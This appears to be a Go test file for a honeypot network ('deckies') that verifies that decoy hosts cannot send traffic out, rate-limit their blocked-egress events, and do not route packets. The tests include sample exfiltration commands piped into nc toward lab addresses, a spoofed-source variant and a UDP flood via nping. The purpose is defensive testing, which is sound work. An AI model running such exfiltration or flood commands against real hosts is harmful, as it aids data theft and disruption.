package lan_test

import (
	"bufio"
	"fmt"
	"net"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/decnet/decnet"
	"github.com/decnet/decnet/fleet/internal/fleettest"
	"github.com/decnet/decnet/fleet/lan"
)

// capture records what passes the bridge, until the function that it returns is called,
// which gives the packets that a filter of tcpdump lets through.
func (l lab) capture(t *testing.T) func(filter string) string {
	t.Helper()
	file := filepath.Join(t.TempDir(), "pcap")
	cmd := exec.Command("tcpdump", "-i", l.bridge, "-n", "-U", "--immediate-mode", "-Z", "root", "-w", file)
	cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	stderr, err := cmd.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	if line, err := bufio.NewReader(stderr).ReadString('\n'); err != nil || !strings.Contains(line, "listening on") {
		t.Fatalf("tcpdump says %q, %v", line, err)
	}
	return func(filter string) string {
		if cmd.ProcessState == nil {
			const nobody = "10.99.255.254" // who is asked for last
			l.attack(t, "ping", "-c", "1", "-W", "0.2", nobody)
			waitFor(t, "last packet in the capture", func() bool {
				out, _ := exec.Command("tcpdump", "-n", "-r", file, "arp").Output() // fails while a packet is being written
				return strings.Contains(string(out), "who-has "+nobody)
			})
			_ = cmd.Process.Signal(syscall.SIGINT)
			_ = cmd.Wait()
		}
		return run(t, "tcpdump", "-n", "-r", file, filter)
	}
}

// TestW17_NothingButRepliesLeavesADecky tries to reach out from inside of a decky as root, by all the ways there
// are, while the bridge is watched. Another decky, which is only talked to, shows that the
// capture would have seen it.
func TestW17_NothingButRepliesLeavesADecky(t *testing.T) {
	needs(t, "tcpdump", "nc", "curl", "nping", "redis-cli")
	l := newLab(t)
	reg := registry(t)
	var seen fleettest.Events
	rt := start(t, reg, lan.Options{Sink: &seen})
	apply(t, rt, plan(t, reg, "[locked]\nservices=redis\n[control]\nservices=redis\n"))
	ns, err := rt.Namespace("locked")
	if err != nil {
		t.Fatal(err)
	}
	packets := l.capture(t)
	listener := attackerListens(t, l, ":8080")

	for _, try := range []struct {
		args                    []string
		protocol, address, port string
	}{
		{[]string{"nc", "-w", "1", attackerAddr, "8080"}, "tcp", attackerAddr, "8080"},
		{[]string{"curl", "-s", "-m", "1", "http://192.0.2.80/"}, "tcp", "192.0.2.80", "80"},
		{[]string{"sh", "-c", "echo exfil | nc -u -w 1 192.0.2.53 53"}, "udp", "192.0.2.53", "53"},
		{[]string{"sh", "-c", "echo exfil | nc -u -w 1 -s 10.99.1.1 -p 6379 " + attackerAddr + " 5353"}, "udp", attackerAddr, "5353"},
		{[]string{"nc", "-w", "1", "10.99.1.2", "6379"}, "tcp", "10.99.1.2", "6379"},
		// By a raw socket: a packet socket would pass by nftables.
		{[]string{"nping", "--send-ip", "--icmp", "-c", "1", "192.0.2.1"}, "icmp", "192.0.2.1", ""},
	} {
		within(t, ns, try.args...)
		want := fmt.Sprint([]decnet.Field{decnet.F("protocol", try.protocol), decnet.F("dst_ip", try.address)})
		want = strings.TrimSuffix(want, "]")
		if try.port != "" {
			want += fmt.Sprintf(" {dst_port %s}", try.port)
		}
		waitFor(t, fmt.Sprintf("an event of %v", try.args), func() bool {
			for _, e := range seen.Of("egress_blocked") {
				if e.Decky == "locked" && e.Service == "egress" && !e.Attacker.IsValid() && strings.HasPrefix(fmt.Sprint(e.Fields), want) {
					return true
				}
			}
			return false
		})
	}
	if answer := l.attack(t, "redis-cli", "-h", "10.99.1.2", "ping"); answer != "PONG\n" {
		t.Errorf("the control answers %q", answer)
	}
	if err := listener.SetDeadline(time.Now()); err != nil {
		t.Fatal(err)
	}
	if c, err := listener.Accept(); err == nil {
		c.Close()
		t.Error("a connection came out")
	}
	if out := packets("ip src host 10.99.1.2"); !strings.Contains(out, ".6379 > "+attackerAddr) {
		t.Errorf("the capture misses the replies of the control:\n%s", out)
	}
	if out := packets("ip src host 10.99.1.1"); strings.Contains(out, "10.99.1.1") {
		t.Errorf("these packets came out:\n%s", out)
	}
	for _, e := range seen.Of("egress_blocked") {
		if e.Decky != "locked" {
			t.Errorf("%+v", e)
		}
	}
}

// TestEgressEventsAreLimited floods from inside: few events come, and later ones still do.
func TestEgressEventsAreLimited(t *testing.T) {
	needs(t, "nping")
	newLab(t)
	reg := registry(t)
	var seen fleettest.Events
	rt := start(t, reg, lan.Options{Sink: &seen})
	apply(t, rt, plan(t, reg, "[a]\nservices=redis\n"))
	ns, err := rt.Namespace("a")
	if err != nil {
		t.Fatal(err)
	}
	began := time.Now()
	within(t, ns, "nping", "--send-ip", "--udp", "-N", "-c", "2000", "--rate", "2000", "-p", "9", "192.0.2.9")
	within(t, ns, "nc", "-w", "2", "192.0.2.10", "10")
	waitFor(t, "the event after the flood", func() bool {
		for _, e := range seen.Of("egress_blocked") {
			if e.Value("dst_port") == "10" {
				return true
			}
		}
		return false
	})
	limit := 20 + 10*(int(time.Since(began)/time.Second)+1)
	if n := len(seen.Of("egress_blocked")); n < 20 || n > limit {
		t.Errorf("%d events, want at least 20 and at most %d", n, limit)
	}
}

// TestDeckiesDoNotForward lets the attacker use a decky as a router.
func TestDeckiesDoNotForward(t *testing.T) {
	needs(t, "tcpdump", "nping", "redis-cli")
	l := newLab(t)
	reg := registry(t)
	if err := exec.Command("sysctl", "-qw", "net.ipv4.ip_forward=1").Run(); err != nil {
		t.Log("the lab does not forward either:", err)
	}
	rt := start(t, reg, lan.Options{})
	apply(t, rt, plan(t, reg, "[a]\nservices=redis\n"))
	packets := l.capture(t)
	run(t, "ip", "-n", "attacker", "route", "add", "192.0.2.0/24", "via", "10.99.1.1")
	l.attack(t, "nping", "--udp", "-p", "9", "-c", "2", "192.0.2.9")
	l.attack(t, "redis-cli", "-h", "10.99.1.1", "ping")
	sent := strings.Count(packets("ip src host "+attackerAddr), "> 192.0.2.9.9: ")
	if sent != 2 {
		t.Errorf("two packets to 192.0.2.9 passed the bridge %d times:\n%s", sent, packets("ip src host "+attackerAddr))
	}
}

func attackerListens(t *testing.T, l lab, addr string) *net.TCPListener {
	t.Helper()
	var listener net.Listener
	var err error
	inside(t, "/run/netns/"+l.attacker, func() { listener, err = net.Listen("tcp4", addr) })
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { listener.Close() })
	return listener.(*net.TCPListener)
}

func waitFor(t *testing.T, what string, happened func() bool) {
	t.Helper()
	for until := time.Now().Add(time.Minute); !happened(); time.Sleep(5 * time.Millisecond) {
		if time.Now().After(until) {
			t.Fatalf("no %s", what)
		}
	}
}
